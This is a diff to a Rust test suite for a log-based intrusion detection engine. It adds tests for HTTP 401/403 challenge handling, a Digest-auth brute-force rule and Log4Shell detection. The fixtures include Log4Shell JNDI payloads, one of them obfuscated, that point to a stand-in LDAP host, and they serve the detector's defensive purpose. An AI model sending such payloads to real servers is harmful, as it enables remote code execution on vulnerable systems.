@@ -51,8 +51,77 @@ fn attacks_on_the_web() {
     assert_eq!(rules(&[request(0, "/?x=${jndi:ldap://192.0.2.7/a}", 404)]), ["web.log4shell"]);
     assert_eq!(rules(&many(40, |n| request(n, &format!("/hidden{n}"), 404))), ["web.hidden_paths"]);
     assert!(rules(&many(400, |n| request(n, &format!("/missing{}.png", n % 10), 404))).is_empty());
-    assert_eq!(rules(&many(10, |n| request(n, "/admin", 401))), ["web.refused"]);
     assert!(rules(&many(500, |n| request(n, "/index.html", 200))).is_empty());
+}
+
+/// A captured request with these fields besides.
+fn asked(n: u64, status: i64, more: &[(&'static str, &'static str)]) -> Event<'static> {
+    let mut fields = vec![("url.path", "/admin".into()), ("http.response.status_code", status.into())];
+    fields.extend(more.iter().map(|(name, text)| (*name, Value::text(text))));
+    event(&HTTP, n, n.cast_signed(), &fields)
+}
+
+const SCHEME: &str = "netlog.http.request.authorization";
+const CHALLENGE: &str = "netlog.http.response.challenge";
+const METHOD: &str = "http.request.method";
+
+/// RFC 9110 section 11.6.1: who has not said who it is, is asked, and tries again.
+#[test]
+fn a_challenge_is_no_refusal() {
+    let refused =
+        |status, more: &'static [(&'static str, &'static str)]| rules(&many(30, |n| asked(n, status, more)));
+    assert!(refused(401, &[(METHOD, "GET"), (CHALLENGE, "Bearer realm=\"x\"")]).is_empty());
+    assert!(refused(401, &[(METHOD, "POST"), (CHALLENGE, "Digest realm=\"x\"")]).is_empty());
+    assert!(refused(401, &[(METHOD, "GET"), (SCHEME, "NTLM"), (CHALLENGE, "NTLM")]).is_empty(), "type 1");
+    assert!(refused(403, &[(METHOD, "GET")]).is_empty(), "nobody logged in");
+    assert_eq!(refused(401, &[(METHOD, "GET"), (SCHEME, "Bearer"), (CHALLENGE, "Bearer")]), ["web.refused"]);
+    assert_eq!(refused(403, &[(METHOD, "GET"), (SCHEME, "Digest"), ("user.name", "a")]), ["web.refused"]);
+    assert_eq!(refused(401, &[(METHOD, "POST")]), ["web.refused"], "a form");
+    let log = |n: u64| {
+        event(
+            &APP,
+            n,
+            n.cast_signed(),
+            &[("url.original", "/".into()), ("http.response.status_code", 401u32.into())],
+        )
+    };
+    assert_eq!(rules(&many(10, log)), ["web.refused"], "a log does not tell");
+}
+
+#[test]
+fn credentials_that_name_a_user_are_log_ins() {
+    let digest = |n, status| {
+        asked(n, status, &[(SCHEME, "Digest"), ("user.name", "admin"), (CHALLENGE, "Digest realm=\"x\"")])
+    };
+    assert!(rules(&many(9, |n| digest(n, 401))).is_empty());
+    assert_eq!(rules(&many(10, |n| digest(n, 401))), ["login.bruteforce"]);
+    let mut events = many(29, |n| digest(n, 401));
+    events.push(digest(29, 200));
+    assert_eq!(rules(&events), ["login.success_after_failures", "login.bruteforce"]);
+    for otherwise in [302, 403, 407, 429, 500] {
+        events.push(digest(30, otherwise));
+        events.retain(|event| event.by_name("http.response.status_code") != Some(&200u32.into()));
+        assert_eq!(rules(&events), ["login.bruteforce"], "{otherwise} accepts nothing");
+    }
+    assert!(rules(&many(500, |n| digest(n, 200))).is_empty(), "a browser repeats them with every page");
+    let stale = |n| {
+        asked(
+            n,
+            401,
+            &[(SCHEME, "Digest"), ("user.name", "joe"), (CHALLENGE, "Digest nonce=\"b\", Stale=TRUE")],
+        )
+    };
+    assert!(rules(&many(30, stale)).is_empty());
+}
+
+#[test]
+fn expressions_in_any_header() {
+    let list = Value::texts(["accept-language: ${x}", "x-api-version: ${${::-j}ndi:ldap://192.0.2.7/a}"]);
+    let fields = [("url.path", "/".into()), ("netlog.http.request.suspicious_header", list)];
+    assert_eq!(rules(&[event(&HTTP, 1, 1, &fields)]), ["web.log4shell"]);
+    let fields =
+        [("url.path", "/".into()), ("netlog.http.request.suspicious_header", Value::texts(["a: ${x}"]))];
+    assert!(rules(&[event(&HTTP, 1, 1, &fields)]).is_empty());
 }
 
 fn question(n: u64, name: &str, code: &'static str) -> Event<'static> {
